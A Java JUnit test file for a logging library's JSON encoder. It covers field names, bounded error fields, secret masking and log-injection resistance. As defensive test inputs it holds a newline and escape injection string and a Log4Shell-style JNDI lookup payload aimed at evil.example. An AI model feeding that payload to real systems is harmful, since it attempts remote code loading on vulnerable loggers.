package dev.paved.observability;

import static net.logstash.logback.argument.StructuredArguments.kv;
import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.joran.JoranConfigurator;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.LoggingEvent;
import ch.qos.logback.core.Appender;
import ch.qos.logback.core.OutputStreamAppender;
import ch.qos.logback.core.encoder.Encoder;
import ch.qos.logback.core.spi.AppenderAttachable;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.paved.observability.internal.PavedLogbackConfigurator;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Paved's real logging configuration (the resource the configurator applies), encoding events:
 * field names, error fields, log-injection resistance and masking.
 */
class JsonLogFormatTest {
  private static final dev.paved.core.Redaction REDACTION = dev.paved.core.Redaction.create();
  private static final ObjectMapper JSON = new ObjectMapper();
  private LoggerContext context;
  private Logger logger;
  private Encoder<ILoggingEvent> encoder;

  @BeforeEach
  @SuppressWarnings("unchecked")
  void configure() throws Exception {
    context = new LoggerContext();
    JoranConfigurator joran = new JoranConfigurator();
    joran.setContext(context);
    joran.doConfigure(Objects.requireNonNull(getClass().getClassLoader().getResource(PavedLogbackConfigurator.CONFIGURATION)));
    Logger root = context.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    Appender<ILoggingEvent> json = Objects.requireNonNull(root.getAppender("PAVED_JSON"));
    Appender<ILoggingEvent> async = Objects.requireNonNull(((AppenderAttachable<ILoggingEvent>) json).getAppender("PAVED_ASYNC"));
    Appender<ILoggingEvent> stdout = Objects.requireNonNull(((AppenderAttachable<ILoggingEvent>) async).getAppender("PAVED_STDOUT"));
    encoder = ((OutputStreamAppender<ILoggingEvent>) stdout).getEncoder();
    logger = context.getLogger("dev.paved.test");
  }

  @AfterEach
  void stop() {
    context.stop();
  }

  private String encode(Level level, String message, Throwable t, Object... args) {
    LoggingEvent e = new LoggingEvent(Logger.class.getName(), logger, level, message, t, args);
    e.setMDCPropertyMap(Map.of());
    return new String(encoder.encode(e), StandardCharsets.UTF_8);
  }

  private String encode(String message, Map<String, String> mdc, Object... args) {
    LoggingEvent e = new LoggingEvent(Logger.class.getName(), logger, Level.INFO, message, null, args);
    e.setMDCPropertyMap(mdc);
    return new String(encoder.encode(e), StandardCharsets.UTF_8);
  }

  private static JsonNode oneObject(String line) throws Exception {
    assertThat(line).endsWith("\n");
    String body = line.substring(0, line.length() - 1);
    assertThat(body).doesNotContain("\n").doesNotContain("\r").doesNotContain("\u2028").doesNotContain("\u2029").doesNotContain("\u001b");
    JsonNode node = JSON.readTree(body);
    assertThat(node.isObject()).isTrue();
    return node;
  }

  @Test
  void linesHaveTheDocumentedFields() throws Exception {
    JsonNode n = oneObject(encode("order {} placed", Map.of("request.id", "r-1"), kv("order.id", 42)));
    assertThat(n.get("@timestamp").asText()).isNotEmpty();
    assertThat(n.get("level").asText()).isEqualTo("INFO");
    assertThat(n.get("logger").asText()).isEqualTo("dev.paved.test");
    assertThat(n.has("thread")).isTrue();
    assertThat(n.get("message").asText()).isEqualTo("order order.id=42 placed");
    assertThat(n.get("order.id").asInt()).isEqualTo(42);
    assertThat(n.get("request.id").asText()).isEqualTo("r-1");
    assertThat(n.has("@version")).isFalse();
    assertThat(n.has("level_value")).isFalse();
  }

  @Test
  void errorsCarryTypeMessageAndBoundedStackTrace() throws Exception {
    Exception deep = new IllegalStateException("payment declined");
    JsonNode n = oneObject(encode(Level.ERROR, "charge failed", deep));
    assertThat(n.get("error.type").asText()).isEqualTo("java.lang.IllegalStateException");
    assertThat(n.get("error.message").asText()).isEqualTo("payment declined");
    assertThat(n.get("error.stack_trace").asText()).contains("IllegalStateException: payment declined").contains("JsonLogFormatTest");
    JsonNode huge = oneObject(encode(Level.ERROR, "x", new RuntimeException("m".repeat(100_000))));
    assertThat(huge.get("error.message").asText()).hasSizeLessThanOrEqualTo(2049);
    assertThat(huge.get("error.stack_trace").asText()).hasSizeLessThanOrEqualTo(16_384);
  }

  @Test
  void injectionInMessageArgumentsAndMdcStillGivesOneObjectPerLine() throws Exception {
    String evil = "a\r\nb\u2028c\u2029d\u001b[31mred\"}{\"level\":\"FATAL\",\"x\":\"";
    JsonNode n = oneObject(encode(evil + " {}", Map.of("user", evil), kv("arg", evil)));
    assertThat(n.get("message").asText()).startsWith(evil);
    assertThat(n.get("user").asText()).isEqualTo(evil);
    assertThat(n.get("arg").asText()).isEqualTo(evil);
    assertThat(n.get("level").asText()).isEqualTo("INFO");
    JsonNode error = oneObject(encode(Level.WARN, "x", new IllegalArgumentException(evil)));
    assertThat(error.get("error.message").asText()).isEqualTo(evil);
  }

  @Test
  void lookupSyntaxIsLoggedAsPlainText() throws Exception {
    JsonNode n = oneObject(encode("${jndi:ldap://evil.example/a} ${env:HOME} {}", Map.of(), "${sys:user.name}"));
    assertThat(n.get("message").asText()).isEqualTo("${jndi:ldap://evil.example/a} ${env:HOME} ${sys:user.name}");
  }

  @Test
  void registeredSecretsAreMaskedInEveryField() throws Exception {
    String secret = "s3cr3t-Token-Value";
    REDACTION.register(secret);
    try {
      JsonNode n = oneObject(encode("token " + secret + " arg {}", Map.of("auth", "Bearer " + secret), kv("key", secret)));
      assertThat(n.toString()).doesNotContain(secret);
      assertThat(n.get("message").asText()).isEqualTo("token ****** arg key=******");
      assertThat(n.get("auth").asText()).isEqualTo("Bearer ******");
      assertThat(n.get("key").asText()).isEqualTo("******");
      JsonNode e = oneObject(encode(Level.ERROR, "failed", new IllegalStateException("login with " + secret + " refused")));
      assertThat(e.toString()).doesNotContain(secret);
      assertThat(e.get("error.message").asText()).isEqualTo("login with ****** refused");
      assertThat(e.get("error.stack_trace").asText()).contains("login with ****** refused");
    } finally {
      REDACTION.unregister(secret);
    }
  }

  @Test
  void aSecretRegisteredAfterLinesWereWrittenIsMaskedToo() throws Exception {
    // The encoder reuses its JSON generator: one made before any secret existed must still mask.
    oneObject(encode("before any secret {}", Map.of(), "x"));
    String secret = "late-registered-" + System.nanoTime();
    REDACTION.register(secret);
    try {
      JsonNode n = oneObject(encode("now {}", Map.of("k", secret), secret));
      assertThat(n.toString()).doesNotContain(secret);
      assertThat(n.get("message").asText()).isEqualTo("now ******");
    } finally {
      REDACTION.unregister(secret);
    }
  }

  @Test
  void maskingRefusesValuesTooShortToMaskSafely() {
    org.assertj.core.api.Assertions.assertThatThrownBy(() -> REDACTION.register("abc"))
        .hasMessage("secret: 3 characters (expected: at least 4)");
  }

  /**
   * The configurator builds the configuration in code (issue #22: parsing the XML took a third of
   * Logback's start); a service's own logback.xml includes the XML. The two are the same: the same
   * appender chain, filters and levels, and byte for byte the same line for the same event.
   */
  @Test
  @SuppressWarnings("unchecked")
  void theConfigurationInCodeIsTheXmlOne() throws Exception {
    LoggerContext inCode = new LoggerContext();
    PavedLogbackConfigurator.configureInCode(inCode);
    try {
      for (LoggerContext c : java.util.List.of(context, inCode)) {
        Logger root = c.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
        assertThat(root.getLevel()).isEqualTo(Level.INFO);
        assertThat(c.getLogger("io.opentelemetry.exporter").getLevel()).isEqualTo(Level.OFF);
        assertThat(c.getTurboFilterList()).singleElement().isInstanceOf(dev.paved.observability.internal.ClientTriggeredLogThrottle.class);
        assertThat(((dev.paved.observability.internal.ClientTriggeredLogThrottle) c.getTurboFilterList().get(0)).loggers())
            .isEqualTo(((dev.paved.observability.internal.ClientTriggeredLogThrottle) context.getTurboFilterList().get(0)).loggers())
            .hasSize(4);
        assertThat(c.getCopyOfListenerList()).singleElement().isInstanceOf(ch.qos.logback.classic.jul.LevelChangePropagator.class);
        Appender<ILoggingEvent> json = Objects.requireNonNull(root.getAppender("PAVED_JSON"));
        Appender<ILoggingEvent> async = Objects.requireNonNull(((AppenderAttachable<ILoggingEvent>) json).getAppender("PAVED_ASYNC"));
        Appender<ILoggingEvent> stdout = Objects.requireNonNull(((AppenderAttachable<ILoggingEvent>) async).getAppender("PAVED_STDOUT"));
        assertThat(json).isInstanceOf(io.opentelemetry.instrumentation.logback.mdc.v1_0.OpenTelemetryAppender.class);
        assertThat(async).isInstanceOf(dev.paved.observability.internal.CountingAsyncAppender.class);
        assertThat(stdout).isInstanceOf(ch.qos.logback.core.ConsoleAppender.class);
        assertThat(java.util.List.of(json, async, stdout)).allMatch(Appender::isStarted);
      }
      Logger root = inCode.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
      Appender<ILoggingEvent> stdout =
          Objects.requireNonNull(
              ((AppenderAttachable<ILoggingEvent>) Objects.requireNonNull(((AppenderAttachable<ILoggingEvent>) Objects.requireNonNull(root.getAppender("PAVED_JSON"))).getAppender("PAVED_ASYNC")))
                  .getAppender("PAVED_STDOUT"));
      Encoder<ILoggingEvent> codeEncoder = ((OutputStreamAppender<ILoggingEvent>) stdout).getEncoder();
      String secret = "s3cr3t-equivalence-" + System.nanoTime();
      REDACTION.register(secret);
      try {
        String evil = "a\r\nb\u2028c\u2029d\u001b[31m\"}{";
        java.util.List<LoggingEvent> events =
            java.util.List.of(
                new LoggingEvent(Logger.class.getName(), logger, Level.INFO, "order {} placed", null, new Object[] {kv("order.id", 42)}),
                new LoggingEvent(Logger.class.getName(), logger, Level.WARN, evil + " {}", null, new Object[] {evil}),
                new LoggingEvent(Logger.class.getName(), logger, Level.ERROR, "token " + secret, new IllegalStateException("deep " + secret, new RuntimeException("cause")), null));
        for (LoggingEvent e : events) {
          e.setMDCPropertyMap(Map.of("request.id", "r-1", "auth", "Bearer " + secret));
          String viaXml = new String(encoder.encode(e), StandardCharsets.UTF_8);
          String viaCode = new String(codeEncoder.encode(e), StandardCharsets.UTF_8);
          assertThat(viaCode).isEqualTo(viaXml).doesNotContain(secret);
        }
      } finally {
        REDACTION.unregister(secret);
      }
    } finally {
      inCode.stop();
    }
  }

  @Test
  void serviceFieldsAppearOnceThePlatformHasStarted() throws Exception {
    dev.paved.observability.internal.LogFields.set(Map.of("service.name", "orders", "service.version", "1.0.0", "deployment.environment", "staging"));
    try {
      JsonNode n = oneObject(encode("hello", Map.of()));
      assertThat(n.get("service.name").asText()).isEqualTo("orders");
      assertThat(n.get("service.version").asText()).isEqualTo("1.0.0");
      assertThat(n.get("deployment.environment").asText()).isEqualTo("staging");
    } finally {
      dev.paved.observability.internal.LogFields.clear();
    }
  }
}
